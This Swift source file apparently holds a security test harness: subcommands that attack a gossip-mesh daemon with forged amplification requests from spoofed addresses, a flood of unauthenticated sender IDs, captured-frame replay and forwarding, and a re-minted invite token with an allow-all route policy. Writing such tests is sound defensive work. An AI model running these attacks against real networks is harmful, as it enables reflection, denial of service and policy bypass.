import ArgumentParser
import Foundation
import GossipCRDT
import MeshCore

/// Small requests that ask for big answers, from an address the daemon has never heard from: with
/// a spoofed source address that is a reflector aimed at a third party.
struct Amplify: ParsableCommand {
    static let configuration = CommandConfiguration(
        abstract: "A small digest claiming a huge store and an 8 KB delta; reply bytes per request byte.")

    @OptionGroup var options: AttackOptions

    func run() throws {
        let context = try options.context()
        let everyBucket = (0..<4096).map { UInt16($0) }
        let requests: [(String, GossipMessage)] = [
            (
                "digest claiming \(GossipLimits.maxEntries) entries",
                Forge.digest(count: UInt32(GossipLimits.maxEntries))
            ),
            (
                "delta asking for every bucket",
                .delta(Delta(level: 3, buckets: everyBucket, updates: Updates(), wantsReply: true))
            ),
        ]
        for (index, (name, message)) in requests.enumerated() {
            // Each request from an address of its own, so that each comes from one never heard from.
            let source = try index == 0 ? options.from : Self.address(after: options.from, by: index)
            let port = index == 0 ? context.port : try UDPPort(host: source)
            let frame = try context.wire.seal(message: message, from: context.me, to: context.targetID)
            port.send(frame, to: context.target)
            let replies = port.receiveAll(quietFor: 400)
            let replied = replies.reduce(0) { $0 + $1.count }
            report([
                "attack": "amplify", "request": name, "from": source, "requestBytes": frame.count,
                "replyBytes": replied, "replyFrames": replies.count,
                "replyKinds": replies.map { context.wire.open($0)?.message.kind ?? "unopened" },
                "ratio": Double(replied) / Double(max(frame.count, 1)),
            ])
        }
    }

    /// 127.0.0.3 and 1 give 127.0.0.4: another loopback address, so another unknown source.
    static func address(after address: String, by offset: Int) throws -> String {
        var octets = address.split(separator: ".").compactMap { Int($0) }
        guard octets.count == 4, octets[3] + offset < 255 else { throw AttackFailure("no address after \(address)") }
        octets[3] += offset
        return octets.map(String.init).joined(separator: ".")
    }
}

/// Frames from senders nobody knows, each a fresh random id: whatever a daemon remembers per
/// sender before authenticating it grows with every frame.
struct SenderFlood: ParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "sender-flood", abstract: "Frames with random, unauthenticated sender ids.")

    @OptionGroup var options: AttackOptions

    @Option(help: "How many frames to send.")
    var frames = 200_000

    @Option(help: "Frames per second at most, so the daemon's socket buffer is not simply overrun.")
    var rate = 40_000

    func run() throws {
        let context = try options.context()
        let started = Date()
        let ack = GossipMessage.ack(Ack(epoch: EpochStamp(leader: context.me.nodeID, number: 1)))
        for index in 0..<frames {
            let sender = NodeID(bytes: try Sodium.randomBytes(NodeID.byteCount))!
            try context.forge(ack, claiming: sender)
            if index % 1000 == 999 {
                let due = Double(index + 1) / Double(rate) - Date().timeIntervalSince(started)
                if due > 0 { Thread.sleep(forTimeInterval: due) }
                _ = context.port.receiveAll(quietFor: 0)
            }
        }
        let replies = context.replies(quietFor: 300)
        report([
            "attack": "sender-flood", "sentFrames": context.port.sentFrames, "sentBytes": context.port.sentBytes,
            "seconds": Date().timeIntervalSince(started), "replyFrames": replies["replyFrames"] ?? 0,
        ])
    }
}

/// Frames of two honest daemons captured on loopback and sent again, from the attacker's own
/// address and from another one; and frames the attacker itself received, sent on to a third
/// member as if they had been meant for it.
struct Replay: ParsableCommand {
    static let configuration = CommandConfiguration(
        abstract: "Capture honest frames on lo and replay them; forward frames received to a third member.")

    @OptionGroup var options: AttackOptions

    @Option(parsing: .upToNextOption, help: "Gossip ports of the honest daemons whose frames to capture.")
    var ports: [UInt16]

    @Option(help: "Seconds to capture.")
    var seconds: Double = 3

    @Option(help: "A third member's gossip address, HOST:PORT, for the frames the attacker received.")
    var third: String

    @Option(help: "Second source address for the replays.")
    var alternateFrom = "127.0.0.2"

    func run() throws {
        let context = try options.context()
        let captured = try LoopbackCapture.frames(ports: Set(ports), seconds: seconds)
        let alternate = try UDPPort(host: alternateFrom)
        for frame in captured {
            let destination = try UDPPort.socketAddress("127.0.0.1", frame.destinationPort)
            context.port.send(frame.payload, to: destination)
            alternate.send(frame.payload, to: destination)
        }
        report([
            "attack": "replay", "captured": captured.count, "replayedFrom": [options.from, alternateFrom],
            "replayedFrames": context.port.sentFrames + alternate.sentFrames,
            "replayedBytes": context.port.sentBytes + alternate.sentBytes,
        ])

        // Ask the target for frames addressed to us, then hand them to the third member.
        _ = context.port.receiveAll(quietFor: 0)
        try context.send(Forge.digest(count: 0))
        let received = context.port.receiveAll(quietFor: 400)
        let thirdAddress = try UDPPort.parse(third)
        for frame in received { context.port.send(frame, to: thirdAddress) }
        report([
            "attack": "replay", "forwardedTo": third, "forwardedFrames": received.count,
            "forwardedKinds": received.map { context.wire.open($0)?.message.kind ?? "unopened" },
        ])
    }
}

/// A token for the same mesh and secret whose settings are the attacker's choice: everything in it
/// is checksummed but nothing is signed, so only the members' own record of the mesh's settings
/// can expose it.
struct MintToken: ParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "mint-token", abstract: "Re-mint the token with a route policy that allows everything.")

    @Option(help: "The mesh.json of a member (mesh id, secret, bootstrap).")
    var meshFile: String

    func run() throws {
        let (mesh, secret) = try MeshFile.read(meshFile)
        let bootstrap = try MeshFile.load(meshFile).bootstrap.compactMap(Endpoint.init)
        let policy = RoutePolicy(
            allowExitNodes: true, allowBridgedMeshes: true,
            allowedPrefixes: [IPPrefix("8.8.8.0/24")!, IPPrefix("10.0.0.0/8")!, IPPrefix("2000::/3")!])
        let minted = try InviteToken(
            mesh: mesh, secret: secret, bootstrap: bootstrap.isEmpty ? [Endpoint("127.0.0.1:51900")!] : bootstrap,
            policy: policy)
        report([
            "attack": "mint-token", "token": minted.text, "allowExitNodes": true,
            "allowedPrefixes": policy.allowedPrefixes.map(\.description),
        ])
    }
}
